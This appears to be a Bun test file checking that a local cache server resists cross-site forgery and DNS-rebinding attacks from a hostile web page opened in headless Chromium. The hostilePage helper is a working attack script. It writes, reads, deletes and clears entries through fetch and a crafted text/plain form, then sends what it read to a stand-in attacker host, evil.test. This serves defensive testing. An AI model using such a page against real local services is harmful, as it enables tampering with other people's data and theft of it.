/** FAULTS 39: what a page of another site, in a real browser, can do to a node on the same machine. */
import { afterEach, expect } from "bun:test";
import { join } from "node:path";
import { needing } from "../support/needing.ts";
import { callsOf } from "../support/node-calls.ts";
import { endServed, serve } from "../support/serve.ts";
import { tempFolder } from "../support/temp-folder.ts";

const { test } = needing("chromium");
const FLAGS = ["--entry-memory=64MiB", "--workers=1"];

afterEach(endServed);

/** What the browser is started with; every host name of `.test` leads to this machine. */
function browser(profile: string, ...args: readonly string[]): string[] {
  const headless = ["--headless", "--no-sandbox", "--disable-gpu", `--user-data-dir=${join(profile, "browser")}`];
  return ["chromium", ...headless, "--host-resolver-rules=MAP *.test 127.0.0.1", ...args];
}

/** Stores with a request and with a form, reads, deletes and clears, and then tells its own server that it has. */
function hostilePage(target: string): string {
  return `<body><script>(async () => {
    const node = ${JSON.stringify(target)};
    const send = (path, method, body) => fetch(node + path, { method, mode: body ? "no-cors" : "cors", body })
      .then((answer) => answer.text()).catch(() => "refused");
    await send("/api/cache", "POST", '{"key":"evil","value":1}');
    const read = await send("/api/cache/k", "GET");
    await send("/api/cache/k", "DELETE");
    await send("/api/cache", "DELETE");
    const frame = Object.assign(document.createElement("iframe"), { name: "answer" });
    const form = Object.assign(document.createElement("form"), { method: "POST", enctype: "text/plain", target: "answer" });
    form.action = node + "/api/cache";
    form.append(Object.assign(document.createElement("input"), { name: '{"key":"form","value":"', value: '"}' }));
    document.body.append(frame, form);
    await new Promise((loaded) => { frame.onload = loaded; form.submit(); });
    await fetch("/report", { method: "POST", body: read });
  })()</script>`;
}

/** Opens the page in a browser; gives what it could read. */
async function attack(target: string): Promise<string> {
  const report = Promise.withResolvers<string>();
  using folder = tempFolder();
  const site = Bun.serve({
    port: 0,
    hostname: "127.0.0.1",
    async fetch(request) {
      if (request.method === "POST") report.resolve(await request.text());
      return new Response(hostilePage(target), { headers: { "content-type": "text/html" } });
    },
  });
  const url = `http://evil.test:${site.port}/`;
  const run = Bun.spawn(browser(folder.path, "--remote-debugging-port=0", url), { stdout: "ignore", stderr: "ignore" });
  try {
    return await report.promise;
  } finally {
    run.kill();
    await run.exited;
    site.stop(true);
  }
}

test("a page of another site neither stores, reads, deletes nor clears anything on loopback", async () => {
  const node = await serve(["--addr=127.0.0.1:0", ...FLAGS]);
  const calls = callsOf(node.port);
  await calls.put("k", 1);
  expect(await attack(`http://127.0.0.1:${node.port}`)).toBe("refused");
  expect((await calls.get("k")).text).toBe('{"key":"k","value":1}');
  expect([(await calls.get("evil")).status, (await calls.get("form")).status]).toEqual([404, 404]);
});

test("the same page does store on a node that was opened to others", async () => {
  const node = await serve(["--addr=:0", ...FLAGS]);
  const calls = callsOf(node.port);
  await attack(`http://127.0.0.1:${node.port}`);
  expect([(await calls.get("evil")).status, (await calls.get("form")).status]).toEqual([200, 200]);
});

test("a name that was made to lead to loopback reads nothing", async () => {
  const node = await serve(["--addr=127.0.0.1:0", ...FLAGS]);
  await callsOf(node.port).put("k", "secret");
  using folder = tempFolder();
  const url = `http://rebound.test:${node.port}/api/cache/k`;
  const run = Bun.spawn(browser(folder.path, "--dump-dom", url), { stdout: "pipe", stderr: "ignore" });
  const shown = await new Response(run.stdout).text();
  expect(shown).toContain("ERR_CROSS_SITE");
  expect(shown).not.toContain("secret");
});
